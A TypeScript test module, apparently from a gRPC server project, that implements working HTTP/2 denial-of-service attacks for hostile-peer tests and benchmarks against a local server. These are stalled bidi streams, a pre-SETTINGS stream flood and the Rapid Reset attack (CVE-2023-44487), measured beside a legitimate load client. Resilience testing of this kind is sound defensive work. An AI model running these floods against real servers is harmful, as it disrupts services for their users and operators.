/**
 * Attacks on a gRPC server, as an attacker runs them, for the hostile-peer tests and
 * `npm run bench:hostile` (which runs them against Rill, grpc-js, connect-node and raw
 * node:http2 alike). Each is bounded in count and time and closes what it opened.
 *
 * - `stalledBidi`: a protocol-abiding client that opens bidi calls, keeps writing requests and
 *   never reads a response (node:http2, with its own session-memory limit raised so node does
 *   not reset the attacker's streams for it).
 * - `streamFlood`: HEADERS for thousands of streams in one write, before reading the server's
 *   SETTINGS (raw frames: node's client would queue them).
 * - `rapidReset`: HEADERS + RST_STREAM pairs (CVE-2023-44487), reconnecting whenever a
 *   connection is closed on it.
 * - `unaryLoad`: the legitimate client measured beside them: sequential unary calls on a
 *   node:http2 session of its own, their latencies and failures.
 */
import { connect as h2connect } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { RawH2Client, FrameType, clientPreface, frame, grpcMessage, grpcRequestHeaders } from "./h2-raw.js";

const grpcHeaders = (path: string) => ({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" });

/** Opens `streams` bidi calls to `path` on one connection and writes `message` (a gRPC-framed request) into each for `ms`, never reading. */
export async function stalledBidi(port: number, path: string, message: Uint8Array, streams: number, ms: number): Promise<{ written: number }> {
  const session = h2connect(`http://127.0.0.1:${port}`, { maxSessionMemory: 100_000 });
  session.on("error", () => {});
  let written = 0;
  const until = performance.now() + ms;
  const all: Promise<void>[] = [];
  for (let i = 0; i < streams; i++) {
    const stream = session.request(grpcHeaders(path));
    stream.on("error", () => {});
    stream.pause(); // never read: the server's responses pile up against our window
    all.push(
      new Promise<void>((resolve) => {
        const pump = (): void => {
          while (performance.now() < until && !stream.destroyed) {
            written += message.byteLength;
            if (!stream.write(message)) {
              stream.once("drain", pump);
              return;
            }
          }
          resolve();
        };
        pump();
        setTimeout(resolve, ms + 50);
      }),
    );
  }
  await Promise.all(all);
  session.destroy();
  return { written };
}

/** Sends HEADERS for `count` streams to `path` in one write, with the preface, before reading anything; resolves after `settleMs` with what came back. */
export async function streamFlood(port: number, path: string, count: number, settleMs: number): Promise<{ refused: number; goawayCode: number | undefined; closed: boolean }> {
  const c = new RawH2Client(port, { preface: false, ackSettings: false });
  c.keepFrames = false;
  await c.connected();
  const frames: Buffer[] = [clientPreface, frame(FrameType.SETTINGS, 0, 0)];
  for (let i = 0; i < count; i++) frames.push(c.headers(c.newStreamId(), grpcRequestHeaders(path)));
  c.write(Buffer.concat(frames));
  await sleep(settleMs);
  const result = { refused: c.resets.get(7) ?? 0, goawayCode: c.goaway?.code, closed: c.closed };
  c.close();
  return result;
}

/**
 * Sends `pairs` HEADERS + RST_STREAM pairs to `path` from `connections` attackers at once, each
 * in batches of up to 25,000 per connection and reconnecting when its connection is closed,
 * for at most `ms`. Resolves with how many pairs were sent and on how many connections.
 */
export async function rapidReset(port: number, path: string, pairs: number, connections: number, ms: number): Promise<{ sent: number; connections: number }> {
  let sent = 0;
  let opened = 0;
  const until = performance.now() + ms;
  const attacker = async (): Promise<void> => {
    while (sent < pairs && performance.now() < until) {
      const c = new RawH2Client(port, { preface: false });
      opened++;
      c.keepFrames = false;
      try {
        await c.connected();
      } catch {
        return;
      }
      const batch: Buffer[] = [clientPreface, frame(FrameType.SETTINGS, 0, 0)];
      for (let i = 0; i < 25_000 && sent < pairs; i++, sent++) {
        const id = c.newStreamId();
        batch.push(c.headers(id, grpcRequestHeaders(path)), c.rst(id));
      }
      c.write(Buffer.concat(batch));
      await Promise.race([c.closedAt, sleep(500)]);
      c.close();
    }
  };
  await Promise.all(Array.from({ length: connections }, attacker));
  return { sent, connections: opened };
}

/** Sequential unary calls to `path` with `request` (a serialized message) for `ms`, 2 ms apart. */
export async function unaryLoad(port: number, path: string, request: Uint8Array, ms: number): Promise<{ latencies: number[]; failures: string[] }> {
  const session = h2connect(`http://127.0.0.1:${port}`);
  session.on("error", () => {});
  const body = grpcMessage(request);
  const latencies: number[] = [];
  const failures: string[] = [];
  const until = performance.now() + ms;
  try {
    while (performance.now() < until && latencies.length + failures.length < 100_000) {
      const t0 = performance.now();
      const status = await new Promise<string>((resolve) => {
        if (session.destroyed || session.closed) return resolve("session closed");
        const s = session.request(grpcHeaders(path), { endStream: false });
        let code = "no status";
        s.on("response", (h) => {
          if (h["grpc-status"] !== undefined) code = String(h["grpc-status"]);
        });
        s.on("trailers", (h) => (code = String(h["grpc-status"])));
        s.on("data", () => {});
        s.on("error", (e: Error) => (code = e.message));
        s.on("close", () => resolve(code));
        s.setTimeout(10_000, () => s.close());
        s.end(body);
      });
      if (status === "0") latencies.push(performance.now() - t0);
      else failures.push(status);
      await sleep(2);
    }
  } finally {
    session.destroy();
  }
  return { latencies, failures };
}

/** The `p`th percentile of `values` (nearest rank). */
export function percentile(values: readonly number[], p: number): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? Number.NaN;
}
